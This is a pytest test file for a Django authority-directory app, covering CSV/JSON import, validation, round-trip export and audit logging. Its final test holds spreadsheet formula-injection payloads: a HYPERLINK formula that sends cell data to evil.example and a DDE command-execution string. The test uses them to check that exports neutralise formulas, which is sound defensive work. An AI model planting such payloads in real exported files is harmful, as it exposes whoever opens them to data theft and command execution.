import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from comity.audit.models import AuditEntry
from comity.directory.models import Authority
from comity.directory.transfer import export_csv, export_json, import_authorities, parse

HEADER = "country,name,kind,competences,languages,phone,email,source\n"
GOOD = "UKR,Office of the Prosecutor General,prosecution,mla,uk; en,+380 44 200 0000,pgo@example.org,https://example.org\n"


def _import(text, **kwargs):
    return import_authorities(rows=parse(text), actor=None, **kwargs)


@pytest.mark.parametrize(
    ("bad_row", "field", "words"),
    [
        ("XXX,Some office,prosecution,mla,en,,,src\n", "country", "Unknown State"),
        ("DEU,Some office,prosecution,mla,en,,not-an-email,src\n", "email", "e-mail"),
        ("DEU,Some office,prosecution,mla,en,12345,,src\n", "phone", "phone"),
        ("DEU,Some office,prosecution,mutual_help,en,,,src\n", "competences", "mutual_help"),
        ("DEU,Some office,prosecution,mla,en,,,\n", "source", "source"),
        (GOOD, "name", "Duplicate of row 2"),
    ],
)
def test_one_bad_row_rejects_the_whole_file_and_names_row_and_field(
    countries, bad_row, field, words
):
    audit_before = AuditEntry.objects.count()
    report = _import(HEADER + GOOD + bad_row)
    assert not report.ok
    assert [(e.row, e.field) for e in report.errors] == [(3, field)]
    assert words in report.errors[0].message
    assert Authority.objects.count() == 0
    assert AuditEntry.objects.count() == audit_before


def test_good_file_creates_entries_with_normalised_phone_and_audit(countries):
    report = _import(HEADER + GOOD)
    assert (report.created, report.updated, report.errors) == (1, 0, [])
    entry = Authority.objects.get()
    assert entry.phone == "+380442000000"
    assert entry.languages == ["uk", "en"]
    assert AuditEntry.objects.filter(action="create", object_id=str(entry.pk)).exists()


def test_dry_run_reports_changes_and_writes_nothing(countries):
    report = _import(HEADER + GOOD, dry_run=True)
    assert report.created == 1 and report.dry_run
    assert report.changes[0]["action"] == "create"
    assert Authority.objects.count() == 0


def test_reimport_updates_by_state_name_and_kind(countries):
    _import(HEADER + GOOD)
    report = _import(HEADER + GOOD.replace("pgo@example.org", "new@example.org"))
    assert (report.created, report.updated) == (0, 1)
    assert report.changes[0]["fields"] == ["email"]
    assert Authority.objects.get().email == "new@example.org"


@pytest.mark.parametrize("exporter", [export_csv, export_json])
def test_export_then_import_round_trips_without_change(ukr_moj, deu_entry, exporter):
    ukr_moj.names = {"uk": "Міністерство юстиції", "en": "Ministry of Justice"}
    ukr_moj.urgent = {"channels": ["email"], "notes": "Duty officer, 24/7"}
    ukr_moj.save()
    text = exporter(Authority.objects.all())
    report = _import(text)
    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)


def test_import_by_id_from_another_instance_keeps_the_id(ukr_moj):
    data = json.loads(export_json([ukr_moj]))
    original_id = ukr_moj.pk
    ukr_moj.delete()
    report = _import(json.dumps(data))
    assert report.created == 1
    assert Authority.objects.get().pk == original_id


def test_authority_admin_may_import_only_own_state(countries):
    report = import_authorities(
        rows=parse(HEADER + GOOD.replace("UKR", "DEU")),
        actor=None,
        allowed_countries=frozenset({"UKR"}),
    )
    assert report.errors[0].field == "country"
    assert Authority.objects.count() == 0


def test_unreadable_files_are_refused_as_a_whole(countries):
    from comity.directory.transfer import ImportFormatError

    with pytest.raises(ImportFormatError, match="column"):
        parse("name,kind\nx,y\n")
    with pytest.raises(ImportFormatError, match="JSON"):
        parse('{"items": [1, 2')


def test_a_csv_with_stray_carriage_returns_is_read_or_refused_never_a_server_error(countries):
    """A CR inside an unquoted field (found by the API fuzzer) is data, not an end of line."""
    from comity.directory.transfer import ImportFormatError, parse

    rows = parse("country,name,kind,source\rUKR,Ministry\rof Justice,central_authority,x\r")
    assert rows and rows[0][1]["country"] == "UKR"
    # A field over the csv module's limit is refused with the line, not a server error.
    with pytest.raises(ImportFormatError, match="line 2"):
        parse("country,name,kind,source\nUKR," + "x" * 200_000 + ",central_authority,x\n")


def test_command_imports_and_reports_errors(countries, tmp_path, capsys):
    good = tmp_path / "good.csv"
    good.write_text(HEADER + GOOD, encoding="utf-8")
    call_command("directory", "import", str(good), "--dry-run")
    assert Authority.objects.count() == 0
    call_command("directory", "import", str(good))
    assert Authority.objects.count() == 1
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + GOOD.replace("UKR", "ZZZ"), encoding="utf-8")
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("directory", "import", str(bad))
    assert "row 2, field country" in capsys.readouterr().err


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/"&A1,"Click")',
    "address": "=cmd|' /C calc'!A0",
    "requirements": "+SUM(1,2)",
    "formalities_notes": "@SUM(A1:A9)",
    "office_hours": "-2+3",
    "source_note": "'quoted already",
}


def test_csv_export_neutralises_formulas_and_the_import_gives_them_back_exactly(ukr_moj):
    from comity.directory import services
    from comity.directory.transfer import authority_as_data

    data = {**authority_as_data(ukr_moj), **FORMULAS}
    services.update_authority(authority=ukr_moj, data=data, actor=None)
    exported = export_csv(Authority.objects.filter(pk=ukr_moj.pk))
    import csv
    import io

    row = next(csv.DictReader(io.StringIO(exported)))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field  # a spreadsheet shows it as text, never runs it
    assert row["phone"].startswith("'+")
    before = authority_as_data(Authority.objects.get(pk=ukr_moj.pk))
    report = _import(exported)
    assert report.ok and (report.updated, report.unchanged) == (0, 1), report.as_dict()
    assert authority_as_data(Authority.objects.get(pk=ukr_moj.pk)) == before
